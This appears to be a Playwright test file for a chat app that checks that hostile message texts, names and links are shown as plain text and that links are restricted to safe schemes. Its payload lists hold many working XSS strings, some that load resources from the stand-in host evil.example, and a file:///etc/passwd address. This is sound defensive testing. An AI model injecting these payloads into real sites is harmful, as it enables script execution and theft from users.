import { assertEquals } from "@std/assert";
import type { Page } from "playwright-core";

import { makeRoom, sayAll } from "./people.ts";
import { openStage } from "./stage.ts";
import { messages, openRoom } from "./visitor.ts";

const story = openStage();

/** Each would open a dialog or ask another origin, if it were anything but text. */
const payloads = [
  "<script>alert(1)</script>",
  "</script><script>alert(1)</script>",
  "<ScRiPt src=//evil.example/x.js></sCrIpT>",
  "<img src=x onerror=alert(1)>",
  "<img src=https://evil.example/pixel.gif>",
  "<svg onload=alert(1)>",
  "<svg><script>alert&#40;1)</script></svg>",
  "<iframe src=javascript:alert(1)></iframe>",
  '<iframe srcdoc="<script>parent.alert(1)</script>"></iframe>',
  "<object data=https://evil.example/></object>",
  "<embed src=https://evil.example/x.swf>",
  "<link rel=stylesheet href=https://evil.example/x.css>",
  "<style>@import 'https://evil.example/x.css';</style>",
  "<base href=https://evil.example/>",
  "<meta http-equiv=refresh content=0;url=https://evil.example/>",
  "<form action=https://evil.example/><input name=text autofocus></form>",
  "<details open ontoggle=alert(1)>",
  "<body onload=alert(1)>",
  "<video><source onerror=alert(1)></video>",
  "<a href=javascript:alert(1)>here</a>",
  "<textarea></textarea><script>alert(1)</script>",
  "<!--<img src=--><img src=x onerror=alert(1)//>",
  "<noscript><p title='</noscript><img src=x onerror=alert(1)>'>",
  "<math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>",
  '"><img src=x onerror=alert(1)>',
  "' onmouseover='alert(1)",
  "${alert(1)} {{constructor.constructor('alert(1)')()}}",
  "&lt;script&gt;alert(1)&lt;/script&gt; &#x3c;img src=x onerror=alert(1)&#x3e;",
  "\u2028<script>alert(1)</script>\u2029]]>",
  '{"__proto__":{"polluted":1}}',
];

/** Only some of what looks like an address may be followed. */
const addresses = [
  "javascript:alert(1)",
  "JaVaScRiPt:alert(1)",
  "java\tscript:alert(1)",
  "data:text/html,<script>alert(1)</script>",
  "vbscript:msgbox(1)",
  "file:///etc/passwd",
  "blob:https://evil.example/1",
  "https://ok.example/<script>alert(1)</script>",
  'https://ok.example/"onclick="alert(1)',
  "http://ok.example/?q=javascript:alert(1)",
  "mailto:ana@ok.example?subject=javascript:alert(1)",
  "https://user:pass@ok.example/",
];

story(
  "hostile texts are shown as text, from the server and live",
  async ({ papo, visitAs, enter }) => {
    const person = await enter("Ana");
    const early = await makeRoom(papo.url, { person, name: "Early" });
    const live = await makeRoom(papo.url, { person, name: "Live" });
    const texts = [...payloads, ...addresses];
    await sayAll(papo.url, { person, room: early, texts });
    const page = await visitAs("Bia");

    await openRoom(page, `${papo.url}/rooms/${early}`);
    assertEquals(await shownTexts(page), texts);
    assertEquals(await strangeLinks(page), []);
    await openRoom(page, `${papo.url}/rooms/${live}`);
    await sayAll(papo.url, { person, room: live, texts });
    await messages(page, texts.at(-1)).waitFor();

    assertEquals(await shownTexts(page), texts);
    assertEquals(await strangeLinks(page), []);
    assertEquals(
      await page.evaluate(() => "polluted" in Object.prototype),
      false,
    );
  },
);

async function shownTexts(page: Page): Promise<(string | null)[]> {
  return await messages(page).locator("[dir=auto]").evaluateAll((texts) =>
    texts.map(({ textContent }) => textContent)
  );
}

/** Lists links in messages that lead to other schemes, or tell the other side about us. */
async function strangeLinks(page: Page): Promise<string[]> {
  return await messages(page).getByRole("link").evaluateAll((links) =>
    links.filter((link) => {
      if (!(link instanceof HTMLAnchorElement)) return true;
      const isSafe = ["http:", "https:", "mailto:"].includes(link.protocol);
      const isQuiet = ["noopener", "noreferrer", "nofollow"].every((word) =>
        link.relList.contains(word)
      );
      return !isSafe || !isQuiet;
    }).map(({ outerHTML }) => outerHTML)
  );
}

story(
  "hostile names of people and rooms are shown as text",
  async ({ papo, visitAs, enter }) => {
    const name = "<img src=x onerror=alert(1)>";
    const person = await enter(name);
    const room = await makeRoom(papo.url, {
      person,
      name: "<script>alert(1)</script> &amp; so on",
    });
    await sayAll(papo.url, { person, room, texts: ["</script><b>bold?</b>"] });
    const page = await visitAs('"><svg onload=alert(1)>');

    await openRoom(page, `${papo.url}/rooms/${room}`);

    await messages(page, name).waitFor();
    await page.getByRole("heading", {
      name: "<script>alert(1)</script> &amp; so on",
    }).waitFor();
    assertEquals(await page.locator("b, img").count(), 0);
  },
);

story(
  "a draft that was refused comes back into the form as text",
  async ({ papo, visitAs }) => {
    const page = await visitAs("Caio", { javaScriptEnabled: false });
    const text = "</textarea><script>alert(1)</script>".padEnd(4_100, "!");
    await page.goto(`${papo.url}/rooms/lobby`);

    await page.getByRole("textbox", { name: "Message" }).fill(text);
    await page.getByRole("button", { name: "Send" }).click();
    await page.getByText("A message holds at most 4,000").waitFor();

    const field = page.getByRole("textbox", { name: "Message" });
    assertEquals(await field.inputValue(), text);
  },
);
